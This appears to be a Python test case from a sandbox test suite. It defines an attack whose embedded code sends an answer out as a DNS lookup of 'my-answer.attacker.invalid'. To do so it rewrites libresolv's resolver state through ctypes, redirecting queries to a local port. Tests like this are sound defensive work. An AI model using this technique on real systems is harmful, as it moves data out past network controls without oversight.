"""Sends words away as names to look up, by the C library's own resolver."""

from tests.attacks.suite import STUB, Attack

ATTACK = Attack(
    harm="data sent away by DNS",
    answer=STUB
    + """
import ctypes
import socket
import struct

try:
    socket.create_connection(socket.getaddrinfo("localhost", PORT, socket.AF_INET)[0][4], 1).close()
    succeeded("looked a name up, and connected")
except OSError:
    pass

# The resolver's state is laid out so: two waits, options, the number of servers, the servers.
libc = ctypes.CDLL("libresolv.so.2")
send = getattr(libc, "res_nquery", None) or getattr(libc, "__res_nquery", None)
state, reply = ctypes.create_string_buffer(4096), ctypes.create_string_buffer(512)
if send and getattr(libc, "__res_ninit")(state) == 0:
    struct.pack_into("@ii", state, 0, 1, 1)
    struct.pack_into("@i", state, 16, 1)
    struct.pack_into("@H", state, 20, socket.AF_INET)
    struct.pack_into(">H4s", state, 22, PORT, bytes([127, 0, 0, 1]))
    send(state, b"my-answer.attacker.invalid", 1, 1, reply, 512)
""",
)
